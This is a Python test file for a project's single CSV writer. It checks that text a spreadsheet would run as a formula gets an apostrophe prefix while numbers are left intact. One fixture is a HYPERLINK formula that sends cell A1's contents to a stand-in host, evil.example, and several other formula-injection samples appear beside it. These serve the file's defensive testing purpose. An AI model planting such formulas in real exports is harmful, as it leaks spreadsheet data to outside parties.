"""Issue 25 item 5: the one CSV writer (`bot/domain/csv_out.py`). A text cell a spreadsheet
would run as a formula comes back with a leading `'`; any other text comes back as written;
numbers podbot computes, negative ones included, stay numbers."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.domain.csv_out import FORMULA_START, Cell, write_table

ROOT = Path(__file__).resolve().parents[2]


def read_back(text: str) -> list[list[str]]:
    """The file as a spreadsheet (or Python's csv module) reads it: header, then rows."""
    return list(csv.reader(io.StringIO(text, newline="")))


def one_row(*cells: Cell) -> list[str]:
    """One row written and read back."""
    _header, row = read_back(write_table([f"c{i}" for i in range(len(cells))], [cells]))
    return row


dangerous = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_START), st.text())
safe = st.text().filter(lambda text: not text.startswith(FORMULA_START))


@given(dangerous, safe)
def test_a_text_cell_a_spreadsheet_would_run_comes_back_with_an_apostrophe(
    text: str, other: str
) -> None:
    assert one_row(text, other, text) == ["'" + text, other, "'" + text]


@given(st.lists(safe, min_size=1, max_size=6))
def test_any_other_text_comes_back_as_written(cells: list[str]) -> None:
    assert one_row(*cells) == cells


@given(
    st.integers(),
    st.decimals(allow_nan=False, allow_infinity=False),
    st.floats(allow_nan=False, allow_infinity=False),
)
def test_numbers_podbot_computes_stay_numbers(whole: int, exact: Decimal, real: float) -> None:
    a, b, c = one_row(whole, exact, real)
    assert int(a) == whole and Decimal(b) == exact and float(c) == real
    assert "'" not in a + b + c and "E" not in b.upper()  # digits, never an exponent


def test_the_cells_of_the_issue() -> None:
    row = one_row(
        '=HYPERLINK("https://evil.example/?q="&A1,"Open")', "+1", "-2+3", "@SUM(1+1)",
        "\tx", "\rx", -1200, Decimal("-12.5"), Decimal("3.2E+4"), -0.125, None, "Acme",
    )  # fmt: skip
    assert row == [
        '\'=HYPERLINK("https://evil.example/?q="&A1,"Open")', "'+1", "'-2+3", "'@SUM(1+1)",
        "'\tx", "'\rx", "-1200", "-12.5", "32000", "-0.125", "", "Acme",
    ]  # fmt: skip
    # A number that is not finite is text, and "-inf" or "-Infinity" would be a formula.
    assert one_row(float("-inf"), Decimal("-Infinity")) == ["'-inf", "'-Infinity"]
    with pytest.raises(TypeError):
        one_row(True)  # a yes or no is a word podbot chooses


def test_no_csv_is_written_but_by_the_one_writer() -> None:
    """Every CSV podbot posts or saves goes through `write_table`: no other module of podbot
    makes a csv writer."""
    writers = []
    for path in sorted((ROOT / "bot").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                writers.append(str(path.relative_to(ROOT)))
    assert writers == ["bot/domain/csv_out.py"]
